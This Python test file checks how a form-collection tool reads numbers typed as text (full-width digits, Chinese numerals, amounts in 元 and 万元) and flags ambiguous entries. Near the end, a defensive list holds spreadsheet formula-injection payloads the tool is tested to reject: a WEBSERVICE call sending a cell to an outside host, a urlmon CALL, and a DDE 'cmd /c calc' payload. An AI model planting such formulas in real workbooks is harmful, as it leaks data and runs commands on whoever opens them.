"""Is what people type instead of a number understood where it can be read one way only, and asked about elsewhere?"""

from dataclasses import replace
from datetime import datetime
from fractions import Fraction

import pytest
from hypothesis import given
from hypothesis import strategies as st

from collect.edits.findings import findings
from collect.edits.judgement import judge
from collect.form.model import Cell, Measure
from collect.form.numerals import number, spelled
from collect.parcel.cells import Kind, TypedCell
from collect.reading.understood import Meant, entered, meant
from collect.submission import Oddity, Oddness, Rejection, Remark, Submission
from reading.distorted import filled_book, read_book, with_sheet
from reading.retyped import FORM, resaved, retyped, spot
from returns import a_form, a_return, found, issued, read_back

pytestmark = pytest.mark.slow

COUNT = Measure()
MONEY = Measure("money", "万元", 6, largest=99_999_999)
YUAN = Measure("yuan", "元", 2, largest=9_999_999)


def text(said: str) -> TypedCell:
    return TypedCell(Kind.TEXT, said, None, False)


COUNTS = {
    "plain digits": ("3", 3),
    "padded in front": (" 7", 7),
    "padded behind": ("0 ", 0),
    "no-break space": ("\u00a07\u00a0", 7),
    "ideographic space": ("\u30007", 7),
    "zero-width space": ("7\u200b", 7),
    "byte order mark": ("\ufeff7", 7),
    "a copied line break": ("7_x000D_", 7),
    "full-width digits": ("１２", 12),
    "full-width digits with the unit": ("３件", 3),
    "the unit behind it": ("3件", 3),
    "the unit at a distance": ("3 件", 3),
    "thousands separated": ("1,234", 1234),
    "thousands separated, full width": ("1，234，567", 1234567),
    "a point and a zero": ("3.0", 3),
    "a point and a zero, full width": ("３．０", 3),
    "zeros in front": ("007", 7),
    "a numeral": ("十二", 12),
    "a numeral with the unit": ("十二件", 12),
    "a numeral with a gap": ("一百零五", 105),
    "a numeral of tens": ("二十", 20),
    "two, as it is counted": ("两件", 2),
    "zero in words": ("零", 0),
    "zero as a circle": ("〇", 0),
    "digits of a numeral": ("一〇五", 105),
    "a banker's numeral": ("壹拾贰", 12),
    "a large numeral": ("三万五千", 35000),
    "a negative number": ("-5", -5),
    "a negative number, full width": ("－５", -5),
    "a fraction": ("2.5", Fraction(5, 2)),
}


@pytest.mark.parametrize("kind", COUNTS)
def test_what_can_be_read_in_one_way_is_understood(kind: str) -> None:
    said, value = COUNTS[kind]
    assert meant(text(said), COUNT) == Meant(value, said)


AMOUNTS = {
    "its own unit": ("160.5964万元", 160_596_400),
    "yuan in a cell of ten thousands": ("251000元", 25_100_000),
    "yuan and fen": ("251000.01元", 25_100_001),
    "thousands separated, in yuan": ("1,000.5元", 100_050),
    "a numeral in yuan": ("三千元", 300_000),
    "a numeral in ten thousands": ("三万元", 3_000_000),
    "less than a fen": ("0.001元", Fraction(1, 10)),
}


@pytest.mark.parametrize("kind", AMOUNTS)
def test_an_amount_is_converted_exactly_and_never_rounded(kind: str) -> None:
    said, value = AMOUNTS[kind]
    assert meant(text(said), MONEY) == Meant(value, said)


def test_ten_thousands_in_a_cell_of_yuan_are_converted_too() -> None:
    assert meant(text("1.5万元"), YUAN) == Meant(1_500_000, "1.5万元")


ASKED = [
    "/", "—", "－", "-", "——", "无", "没有", "无。", "+19", "＋19", "22（其中修订16件）", "约20", "20余", "十几",
    "12,34", "1,2345", "0,123", "1.234.567", "1 2", "1、2", "3项", "3份", "3万元", "3元", "5%", "5²", "①", "½", "1/2",
    "1-2", "2023年", "1e308", "1E3", "0x10", "∞", "nan", "TRUE", "'5", "=1+1", "二三", "一百五", "十十", "三点五", "半",
    "(5)", "3件5", "件", ".", "1.", "٣", "१", "9" * 41, "1" + "0" * 18,
]  # fmt: skip


@pytest.mark.parametrize("said", ASKED)
def test_what_can_be_read_in_two_ways_or_none_is_asked_about(said: str) -> None:
    assert meant(text(said), COUNT) == Oddity(Oddness.TEXT, said)


@pytest.mark.parametrize("said", ["251000件", "25.1万", "十二万", "￥5", "25.1万余元", "25.1 元整", "/"])
def test_an_amount_of_which_the_unit_is_not_certain_is_asked_about(said: str) -> None:
    assert meant(text(said), MONEY) == Oddity(Oddness.TEXT, said)


@pytest.mark.parametrize("said", ["", " ", "\u3000\u00a0", "\u200b", "_x000D_", "\n"])
def test_what_nobody_sees_is_blank(said: str) -> None:
    assert meant(text(said), COUNT) is None


@given(st.integers(0, 99_999_999))
def test_every_numeral_is_read_as_the_number_it_spells(value: int) -> None:
    assert number(spelled(value)) == value


@given(st.text(alphabet="〇零一二两三四五六七八九十百千万", max_size=8))
def test_a_numeral_that_is_understood_is_well_formed(said: str) -> None:
    value = number(said)
    plain = said.replace("〇", "零").replace("两", "二").replace("一十", "十")
    by_place = "零" in plain and not set(plain) & set("十百千万")
    assert value is None or by_place or spelled(value).replace("一十", "十") == plain


@given(st.text(max_size=12))
def test_no_text_raises_and_none_becomes_zero_unless_it_says_so(said: str) -> None:
    read = entered(text(said), COUNT)
    assert not isinstance(read, Meant) or read.number != 0 or set(said) & set("0０〇零")


def test_a_number_beyond_its_measure_is_asked_about_in_words_as_in_digits() -> None:
    assert entered(text("1,000,000,000件"), COUNT) == Oddity(Oddness.TEXT, "1,000,000,000件")
    assert entered(text("999,999,999件"), COUNT) == Meant(999_999_999, "999,999,999件")


# ---------------------------------------------------------------- in a workbook


def typed(cell: str, said: str) -> Submission:
    submission = read_back(FORM, retyped({spot(cell): said}))
    assert isinstance(submission, Submission), submission
    return submission


def test_the_understanding_is_recorded_with_place_text_and_number() -> None:
    submission = typed("T3:1:person", "３件")
    assert submission.figures[Cell.named("T3:1:person")] == 3
    assert submission.oddities == {}
    assert submission.remarks[-1] == Remark(
        "understood",
        {
            "place": "“三、收到和处理政府信息公开申请情况”“一、本年新收政府信息公开申请数量”行“自然人”栏",
            "found": "３件",
            "read": "3",
        },
    )


def test_an_amount_in_yuan_is_recorded_as_it_counts() -> None:
    submission = typed("T2:8.1:amount", "251000元")
    assert submission.figures[Cell.named("T2:8.1:amount")] == 25_100_000
    assert [dict(each.detail)["read"] for each in submission.remarks if each.code == "understood"] == ["25.1"]


def test_what_is_written_alike_in_one_table_is_one_remark_and_bare_digits_are_one_more() -> None:
    said = dict.fromkeys((f"T3:3.3.{line}:person" for line in range(1, 5)), "0件")
    digits = {"T3:1:person": "7", "T3:4:person": "7 "}
    contents = {spot(cell): text for cell, text in {**said, **digits}.items()}
    submission = read_back(FORM, retyped(contents))
    assert isinstance(submission, Submission)
    told = [dict(each.detail) for each in submission.remarks if each.code == "understood"]
    assert sorted((each["found"], each["read"]) for each in told) == [("0件", "0"), ("7、7 ", "7、7")]


@pytest.mark.parametrize("said", ["/", "—", "无", "+19", "22（其中修订16件）", "3项"])
def test_what_asks_is_a_hard_finding_that_says_what_stood_there(said: str) -> None:
    assert found(typed("T3:1:person", said)) == [("R5", ("T3:1:person",), said, "")]


def test_a_fraction_in_words_stays_a_number_that_is_refused() -> None:
    assert found(typed("T2:5.1:decisions", "2.5件")) == [("R5", ("T2:5.1:decisions",), "2.5", "")]


def test_a_negative_number_in_words_stays_a_number_that_is_refused() -> None:
    assert found(typed("T2:5.1:decisions", "-5")) == [("R5", ("T2:5.1:decisions",), "-5", "")]


@pytest.mark.parametrize(
    ("value", "kind", "stated", "part"),
    [
        (datetime(2025, 1, 2), Oddness.DATE, "2025-01-02", "日期“2025-01-02”（把“1-2”"),
        (True, Oddness.BOOLEAN, "TRUE", "逻辑值“TRUE”"),
        (False, Oddness.BOOLEAN, "FALSE", "逻辑值“FALSE”"),
        ("#REF!", Oddness.ERROR, "#REF!", "错误值“#REF!”"),
    ],
)
def test_a_date_a_truth_and_an_error_are_asked_about_in_their_own_words(
    value: object, kind: Oddness, stated: str, part: str
) -> None:
    submission = read_back(FORM, resaved(issued(FORM, a_return()), {spot("T3:1:person"): value}))
    assert isinstance(submission, Submission)
    assert submission.oddities == {Cell.named("T3:1:person"): Oddity(kind, stated)}
    (finding,) = findings(a_form(), submission, judgement=judge(a_form(), submission))
    assert (finding.rule, finding.stated) == ("R5", stated)
    assert part in finding.message


ACTIVE = [
    'WEBSERVICE("http://example.cn/"&A1)', 'HYPERLINK("http://example.cn","1")', 'CALL("urlmon","x")',
    "[1]Sheet1!A1", "'[别的.xlsx]表三'!D7", "'C:\\账\\[别的.xlsx]表三'!D7", "cmd|' /c calc'!A0", "'file:///C:/x.ods'#$表.A1",
    "1+ webservice (\"x\")",
]  # fmt: skip


def planted(formula: str) -> Submission | Rejection:
    """What is read when an entry holds this formula, its stored value 7."""
    at, cell = (spot("T3:1:person").row, spot("T3:1:person").column), TypedCell(Kind.NUMBER, "7", formula, False)
    book = with_sheet(filled_book(), "表三", lambda sheet: replace(sheet, cells={**sheet.cells, at: cell}))
    return read_book(book)


@pytest.mark.parametrize("formula", ACTIVE)
def test_a_formula_in_an_entry_that_reaches_out_of_the_file_sets_it_aside(formula: str) -> None:
    rejection = planted(formula)
    assert isinstance(rejection, Rejection)
    assert (rejection.reason, rejection.detail["fault"]) == ("active-content", "active-formula")
    assert "自然人" in rejection.detail["said"]


@pytest.mark.parametrize(
    "formula", ["3+4", "SUM(D9:D30)", "表二!B7", "'表二'!B7*2", 'IF(A1="call(1)",1,2)', "Table1[件数]"]
)
def test_a_formula_in_an_entry_that_stays_in_the_file_is_taken_with_its_value(formula: str) -> None:
    submission = planted(formula)
    assert isinstance(submission, Submission)
    assert submission.figures[Cell.named("T3:1:person")] == 7
    assert [each.code for each in submission.remarks] == ["formula-in-entry"]
